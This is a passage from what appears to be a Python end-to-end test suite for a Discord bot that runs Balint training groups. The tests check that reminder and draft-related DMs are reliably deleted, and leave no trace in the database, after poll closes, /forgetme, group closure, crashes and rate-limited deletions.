    await clock.move_to(POLL_CLOSES + timedelta(hours=3))
    clock.step = False
    late = {
        name: [m.text[:60] for m in r if snowflake_time(m.id) > POLL_CLOSES]
        for name, r in reminders_of(world).items()
    }
    assert not any(late.values()), late


async def remind_all_but_alice(world: World, clock: Clock) -> dict[str, list[Message]]:
    """Alice answers the first pulse; the other seven are reminded over the half hour."""
    from tests.e2e.test_privacy_leaks import answer_pulse

    await clock.move_to(SESSION_1_END + timedelta(minutes=1))
    await answer_pulse(world.trainee("alice"), 4, in_channel=world.channel)
    await clock.move_to(REMINDER_DUE - timedelta(minutes=1))
    clock.step = True
    await clock.move_to(REMINDER_DUE + timedelta(minutes=35))
    clock.step = False
    reminders = reminders_of(world)
    assert not reminders["alice"] and all(
        len(r) == 1 for name, r in reminders.items() if name != "alice"
    ), reminders
    return reminders


def deleted(emulator: Emulator, member: SimMember, message_id: int) -> bool:
    """Whether the message in the member's DMs with the bot was deleted."""
    message = emulator.dm_channel(member.user).get(message_id)
    assert message is not None, message_id
    return message.deleted


def still_there(
    emulator: Emulator, world: World, reminders: dict[str, list[Message]]
) -> dict[str, int]:
    return {
        t.name: sum(1 for m in reminders[t.name] if not deleted(emulator, t, m.id))
        for t in world.trainees
        if reminders[t.name]
    }


async def test_the_reminders_are_deleted_when_the_poll_closes_and_the_file_cannot_find_them(
    bot: BalintBot,
    world: World,
    group: Group,
    clock: Clock,
    emulator: Emulator,
) -> None:
    """What remained after the second review: the reminders are DMs, never deleted, so whoever
    holds the bot's token (or Discord) could read, long after, who had not answered the pulse
    by its reminder. Now they go when the poll closes, after everything the leaders see of the
    close, and nothing in the file (or its -wal) finds them: no DM's id or channel; the bot
    finds them again by looking in every trainee's DMs alike, answered or not. The trainees'
    other DMs from the bot stay."""
    reminders = await remind_all_but_alice(world, clock)
    others = {
        t.name: [m.id for m in t.inbox if "gentle reminder" not in m.text] for t in world.trainees
    }
    dm_channels = [emulator.dm_channel(t.user).id for t in world.trainees]
    raw = raw_files(bot)
    found = [
        t
        for ids in ([m.id for m in r] for r in reminders.values())
        for i in ids
        for t in traces(raw, i)
    ] + [t for c in dm_channels for t in traces(raw, c)]
    assert not found, found  # while the poll is open too

    await clock.move_to(POLL_CLOSES + timedelta(minutes=2))
    await clock.settle()
    assert set(still_there(emulator, world, reminders).values()) == {0}, still_there(
        emulator, world, reminders
    )
    kept = {
        name: [i for i in ids if deleted(emulator, world.trainee(name), i)]
        for name, ids in others.items()
    }
    assert not any(kept.values()), kept  # nothing else was deleted
    raw = raw_files(bot)
    found = [t for r in reminders.values() for m in r for t in traces(raw, m.id)] + [
        t for c in dm_channels for t in traces(raw, c)
    ]
    assert not found, found


async def test_reminders_left_by_a_crash_during_their_deletion_go_at_the_next_start_once(
    bot: BalintBot,
    world: World,
    group: Group,
    clock: Clock,
    emulator: Emulator,
    start_bot: StartBot,
) -> None:
    """The bot dies in the middle of deleting the reminders, and comes back: the rest go then,
    and once they have all gone, a later start does not look for them again."""
    reminders = await remind_all_but_alice(world, clock)
    clock.traveller.move_to(POLL_CLOSES + timedelta(minutes=2))
    bot.scheduler.wakeup()
    emulator.faults.fail_next("DELETE", r"/channels/\d+/messages/\d+$", status=429, retry_after=60)
    await emulator.wait_for_request(lambda r: r.status == 429, timeout=20)
    for task in list(bot.scheduler._tasks):
        task.cancel()
    await asyncio.gather(*bot.scheduler._tasks, return_exceptions=True)
    await bot.close()
    emulator.faults.clear()
    assert sum(still_there(emulator, world, reminders).values()) > 0

    await clock.move_to(POLL_CLOSES + timedelta(hours=1))
    bot = await start_bot()
    await clock.settle()
    assert set(still_there(emulator, world, reminders).values()) == {0}

    await bot.close()
    looked = len(emulator.requests)
    bot = await start_bot()
    await clock.settle()
    dm_ids = {emulator.dm_channel(t.user).id for t in world.trainees}
    again = [
        r.method + " " + r.path
        for r in emulator.requests[looked:]
        if any(str(c) in r.path for c in dm_ids)
    ]
    assert not again, again


async def test_a_group_closed_while_its_poll_is_open_takes_the_reminders_with_it(
    bot: BalintBot,
    world: World,
    group: Group,
    clock: Clock,
    emulator: Emulator,
) -> None:
    """/group close deletes the polls with the group, their salt and roster: the reminders are
    found before (in memory) and deleted after everything the leaders see of the close."""
    reminders = await remind_all_but_alice(world, clock)
    events = record_events(emulator)
    asked = await world.leader.slash("group close", in_channel=world.channel)
    r = await world.leader.click("Close the group now", message=asked)
    await clock.settle()
    assert "Closed" in r.text, r.text
    assert set(still_there(emulator, world, reminders).values()) == {0}
    reminder_ids = {m.id for r in reminders.values() for m in r}
    kinds = [(what, leaders) for what, leaders, _ in events]
    last_seen = max(i for i, (_, leaders) in enumerate(kinds) if leaders)
    first_reminder = min(i for i, (_, _, m) in enumerate(events) if m in reminder_ids)
    assert last_seen < first_reminder, kinds


async def test_forgetme_takes_the_members_reminders_with_it(
    bot: BalintBot,
    world: World,
    group: Group,
    clock: Clock,
    emulator: Emulator,
) -> None:
    """After /forgetme a member is on no roster, so the close would not look in their DMs: their
    reminders go at once instead (the others' stay until the close)."""
    reminders = await remind_all_but_alice(world, clock)
    await forget(world.trainee("bob"), world)
    await clock.settle()
    left = still_there(emulator, world, reminders)
    assert left.pop("bob") == 0 and set(left.values()) == {1}, left


async def test_a_reminder_still_being_sent_as_the_poll_closes_is_deleted_with_the_others(
    bot: BalintBot,
    world: World,
    group: Group,
    clock: Clock,
    emulator: Emulator,
) -> None:
    """A turn taken just before the close whose DM is still on its way (Discord asked the bot
    to wait): the close's look through the members' DMs must not run before it lands, or that
    one reminder would stay for good."""
    from bot.store import feedback as fb
    from bot.store.groups import members
    from tests.e2e.test_privacy_leaks import answer_pulse

    await clock.move_to(SESSION_1_END + timedelta(minutes=1))
    await answer_pulse(world.trainee("alice"), 4, in_channel=world.channel)
    # planned, none taken yet: the clock stands still until the 429 is set, or a first turn due
    # within the seconds these steps take on a busy machine went first, unhindered
    clock.traveller.move_to(REMINDER_DUE + timedelta(seconds=1), tick=False)
    await clock.settle()
    (poll,) = await fb.open_polls(bot.db)
    trainees = [m.user_id for m in await members(bot.db, poll.group_id, role="trainee")]
    turns = await fb.reminder_turns(bot.db, poll.id, bot.key, trainees)
    assert turns is not None
    # the first turn that sends a DM: alice answered, so her turn (first in a key's order one
    # time in eight) sends none
    alice = world.trainee("alice").id
    draw = next(d for d, user in turns.pending() if user != alice)
    first = turns.due(draw, timedelta(minutes=30))
    emulator.faults.fail_next("POST", r"/channels/\d+/messages$", status=429, retry_after=3)
    clock.traveller.move_to(first + timedelta(seconds=1), tick=True)
    bot.scheduler.wakeup()
    await emulator.wait_for_request(lambda r: r.status == 429, timeout=10)
    clock.traveller.move_to(POLL_CLOSES + timedelta(minutes=1))  # the close, meanwhile
    bot.scheduler.wakeup()
    await clock.settle()
    reminders = reminders_of(world)
    assert sum(len(r) for r in reminders.values()) == 1, reminders
    assert set(still_there(emulator, world, reminders).values()) == {0}


async def test_a_bot_stopped_in_the_middle_of_group_close_deletes_the_reminders_at_its_start(
    bot: BalintBot,
    world: World,
    group: Group,
    clock: Clock,
    emulator: Emulator,
    start_bot: StartBot,
) -> None:
    """/group close deletes the roster and the polls with the group, and the reminders only
    after its answer to the leader: the bot stopped in between (its answer stalled), the group's
    rows were gone and its reminders stayed for good. What finds them outlives the rows until
    they are deleted, then goes too."""
    reminders = await remind_all_but_alice(world, clock)
    asked = await world.leader.slash("group close", in_channel=world.channel)
    emulator.faults.fail_next("POST", r"/webhooks/\d+/[^/]+$", status=429, retry_after=60)
    pressed = asyncio.ensure_future(world.leader.click("Close the group now", message=asked))
    await emulator.wait_for_request(lambda r: r.status == 429, timeout=20)  # the answer
    dying = [
        t
        for t in asyncio.all_tasks()
        if t.get_name().startswith(HANDLER_TASKS) or t in bot.scheduler._tasks
    ]
    for task in dying:  # the process dies: the close's handler with it
        task.cancel()
    await asyncio.gather(*dying, return_exceptions=True)
    await bot.close()
    emulator.faults.clear()
    pressed.cancel()
    await asyncio.gather(pressed, return_exceptions=True)
    assert set(still_there(emulator, world, reminders).values()) == {1}

    bot = await start_bot()
    await clock.settle()
    assert set(still_there(emulator, world, reminders).values()) == {0}
    assert await bot.db.fetchval("SELECT count(*) FROM feedback_polls") == 0
    leftover = await bot.db.fetchall(
        "SELECT name FROM sqlite_master WHERE type = 'table' AND name LIKE 'feedback_reminders%'"
    )
    for row in leftover:
        assert await bot.db.fetchval(f'SELECT count(*) FROM "{row["name"]}"') == 0


# -- the fourth review: the drafts' DMs to their authors, past a stop or a failed deletion -------


async def a_question_to_alice(world: World, clock: Clock) -> list[Message]:
    """Alice's draft, seen by the leaders at the round, and a leader's question relayed to her
    (a DM the bot keeps, sealed, to delete with the draft)."""
    alice = world.trainee("alice")
    await alice.slash("draft new", in_channel=world.channel, session="2026-09-03")
    r = await alice.submit_modal({"theme": "When she cries I go numb", "body": "I go numb."})
    assert "Saved" in r.text, r.text
    await clock.move_to(datetime(2026, 9, 1, 10, 0, 30, tzinfo=UTC))  # the round
    card = [m for m in world.leaders_channel.messages if m.embeds][-1]
    await world.leader.click("Ask the author", card)
    await world.leader.submit_modal({"question": "How long have you known them?"})
    await clock.settle()
    about = [m for m in alice.inbox if "How long have you known them?" in m.text]
    assert about, "the question did not reach the author"
    return about


async def nothing_finds(bot: BalintBot, world: World, emulator: Emulator, ids: list[int]) -> None:
    """Neither the file and its -wal nor any number in it finds those DMs (with the token)."""
    raw = raw_files(bot)
    found = [t for i in ids for t in traces(raw, i)]
    assert not found, found
    conn = sqlite3.connect(bot.settings.database_path)
    try:
        numbers = {
            value
            for table in [
                r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'")
            ]
            for row in conn.execute(f'SELECT * FROM "{table}"')
            for value in row
            if isinstance(value, int)
        }
    finally:
        conn.close()
    probed = [
        member.name
        for member in world.everyone
        for number in numbers
        if emulator.dm_channel(member.user).get(number) is not None
    ]
    assert not probed, probed


async def test_a_bot_stopped_in_the_middle_of_group_close_deletes_the_drafts_dms_at_its_start(
    bot: BalintBot,
    world: World,
    group: Group,
    clock: Clock,
    emulator: Emulator,
    start_bot: StartBot,
    tmp_path: Path,
) -> None:
    """/group close deletes the drafts (and their salts) with the group, and the DMs to their
    authors only after its answer to the leader, from a list kept in memory: a bot stopped in
    between left them in the authors' DMs for good (Discord, or anyone with the token, reads
    who wrote a draft). What deletes them is kept, sealed, until they are gone."""
    alice = world.trainee("alice")
    about = await a_question_to_alice(world, clock)
    asked = await world.leader.slash("group close", in_channel=world.channel)
    emulator.faults.fail_next("POST", r"/webhooks/\d+/[^/]+$", status=429, retry_after=60)
    pressed = asyncio.ensure_future(world.leader.click("Close the group now", message=asked))
    await emulator.wait_for_request(lambda r: r.status == 429, timeout=20)  # the answer
    dying = [
        t
        for t in asyncio.all_tasks()
        if t.get_name().startswith(HANDLER_TASKS) or t in bot.scheduler._tasks
    ]
    for task in dying:  # the process dies: the close's handler with it
        task.cancel()
    await asyncio.gather(*dying, return_exceptions=True)
    await bot.close()
    emulator.faults.clear()
    pressed.cancel()
    await asyncio.gather(pressed, return_exceptions=True)
    assert not any(deleted(emulator, alice, m.id) for m in about)
    conn = sqlite3.connect(bot.settings.database_path)
    try:  # the close went through: the drafts and their salts are gone
        assert conn.execute("SELECT count(*) FROM drafts").fetchone()[0] == 0
    finally:
        conn.close()
    await nothing_finds(bot, world, emulator, [m.id for m in about])
    copy = write_backup(Path(bot.settings.database_path), tmp_path / "backup.sqlite3")
    conn = sqlite3.connect(copy)
    try:  # sealed under the key alone: a copy and the key would open them
        assert conn.execute("SELECT count(*) FROM draft_dms_to_delete").fetchone()[0] == 0
    finally:
        conn.close()

    bot = await start_bot()
    await clock.settle()
    assert all(deleted(emulator, alice, m.id) for m in about), "the author's DMs stayed"
    assert await bot.db.fetchval("SELECT count(*) FROM draft_dms_to_delete") == 0


async def test_forgetme_retries_an_authors_dm_whose_deletion_failed(
    bot: BalintBot,
    world: World,
    group: Group,
    clock: Clock,
    emulator: Emulator,
    start_bot: StartBot,
) -> None:
    """/forgetme with a draft the leaders have seen deletes the author's DMs about it, then
    unlinks it (a fresh salt): a deletion that failed (Discord answered 429 until discord.py's
    retries ran out) was unlinked with the rest, and the DM stayed for good. It is kept, sealed
    (nothing in the file finds it), and deleted later, across a restart."""
    alice = world.trainee("alice")
    about = await a_question_to_alice(world, clock)
    emulator.faults.fail_next("DELETE", r"/channels/\d+/messages/\d+$", status=429, times=50)
    await forget(alice, world)
    await clock.settle()
    assert not any(deleted(emulator, alice, m.id) for m in about)
    await nothing_finds(bot, world, emulator, [m.id for m in about])
    await bot.close()
    emulator.faults.clear()

    bot = await start_bot()
    await clock.settle()
    assert all(deleted(emulator, alice, m.id) for m in about), "the author's DM stayed"
    assert await bot.db.fetchval("SELECT count(*) FROM draft_dms_to_delete") == 0


async def test_a_card_discord_would_not_delete_at_group_close_goes_later(
    bot: BalintBot,
    world: World,
    group: Group,
    clock: Clock,
    emulator: Emulator,
    start_bot: StartBot,
) -> None:
    """/group close deletes the drafts' cards, then the group's rows (the drafts' with them): a
    card whose deletion Discord refused for now (429 until the retries ran out) lost its only
    record with them, and the draft's text stayed in the leaders' channel for good, after the
    close said the drafts were deleted. It is kept until it goes, across a restart."""
    await a_question_to_alice(world, clock)
    card = [m for m in world.leaders_channel.messages if m.embeds][-1]
    emulator.faults.fail_next(
        "DELETE", rf"/channels/{world.leaders_channel.id}/messages/{card.id}$", status=429, times=50
    )
    asked = await world.leader.slash("group close", in_channel=world.channel)
    r = await world.leader.click("Close the group now", message=asked)
    await clock.settle()
    assert "Closed" in r.text, r.text
    shown = world.leaders_channel.get(card.id)
    assert shown is not None and not shown.deleted
    await bot.close()
    emulator.faults.clear()

    bot = await start_bot()
    await clock.settle()
    assert shown.deleted, "the card stayed"
    assert await bot.db.fetchval("SELECT count(*) FROM draft_dms_to_delete") == 0


async def test_forgetme_retries_a_reminder_whose_deletion_failed(
    bot: BalintBot,
    world: World,
    group: Group,
    clock: Clock,
    emulator: Emulator,
    start_bot: StartBot,
) -> None:
    """/forgetme deletes the member's reminders at once (after it, no roster finds their DMs):
    a deletion that failed (Discord answered 429 until discord.py's retries ran out) was
    forgotten with the rest, and the reminder (who had not answered by their turn) stayed for
    good. It is kept, sealed (nothing in the file finds it), and deleted later, across a
    restart, while the poll is still open."""
    reminders = await remind_all_but_alice(world, clock)
    bob = world.trainee("bob")
    emulator.faults.fail_next("DELETE", r"/channels/\d+/messages/\d+$", status=429, times=50)
    await forget(bob, world)
    await clock.settle()
    assert not any(deleted(emulator, bob, m.id) for m in reminders["bob"])
    await nothing_finds(bot, world, emulator, [m.id for m in reminders["bob"]])
    await bot.close()
    emulator.faults.clear()

    bot = await start_bot()
    await clock.settle()
    assert all(deleted(emulator, bob, m.id) for m in reminders["bob"]), "bob's reminder stayed"
    assert await bot.db.fetchval("SELECT count(*) FROM draft_dms_to_delete") == 0
    left = still_there(emulator, world, reminders)
    assert left.pop("bob") == 0 and set(left.values()) == {1}, left  # the poll is still open
